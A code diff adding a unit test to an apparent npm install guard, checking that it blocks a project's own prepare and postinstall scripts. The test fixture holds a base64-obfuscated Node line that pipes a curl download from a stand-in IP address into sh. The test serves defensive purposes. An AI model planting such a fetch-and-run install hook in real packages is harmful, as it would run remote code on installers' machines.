@@ -390,6 +390,38 @@ class Npm(Base):
         out = json.loads(self.npm("--json", code=2).stdout)
         self.assertEqual((out["verdict"], out["installed"]), ("block", False))
 
+    def test_scripts_of_the_project_itself(self):
+        bad = b"require('child_process').execSync(Buffer.from('Y3VybCBodHRwOi8vMTk4LjUxLjEwMC43L3ggfCBzaA==', 'base64').toString())\n"
+        mark = "require('fs').writeFileSync(process.env.MARK, 'ran')"
+        member = self.project / "packages/m"
+        member.mkdir(parents=True)
+        for root, own in [({"scripts": {"prepare": "npm run other", "other": "node x.js"}}, {}),
+                          ({"workspaces": ["packages/*"]}, {"scripts": {"postinstall": "node ../../x.js"}})]:
+            with self.subTest(root=root):
+                self.lock("good")
+                for name, more in [("package.json", root), ("packages/m/package.json", dict(own, name="m", version="1.0.0"))]:
+                    file = self.project / name
+                    old = json.loads(file.read_text()) if name == "package.json" else {}
+                    file.write_text(json.dumps(dict(old, **more)))
+                lock = json.loads((self.project / "package-lock.json").read_text())
+                lock["packages"][""].update({k: v for k, v in root.items() if k == "workspaces"})
+                if "workspaces" in root:
+                    lock["packages"]["node_modules/m"] = {"resolved": "packages/m", "link": True}
+                    lock["packages"]["packages/m"] = {"version": "1.0.0", "name": "m", "hasInstallScript": True}
+                (self.project / "package-lock.json").write_text(json.dumps(lock))
+                (self.project / "x.js").write_bytes(bad)
+                self.assertIn("fetch-and-run", self.npm("--yes", code=2).stdout)
+                self.nothing()
+                self.npm("--ignore-scripts")
+                self.assertIn("good", self.there())
+                self.assertFalse(self.mark.exists())
+                shutil.rmtree(self.project / "node_modules")
+                (self.project / "x.js").write_text(mark + "\n")
+                self.assertIn("judging the project itself", self.npm().stderr)
+                self.assertTrue(self.mark.exists())
+                self.mark.unlink()
+                shutil.rmtree(self.project / "node_modules")
+
     def test_what_is_known_is_not_even_fetched(self):
         self.lock("good", "axios")
         p = self.npm(code=2)
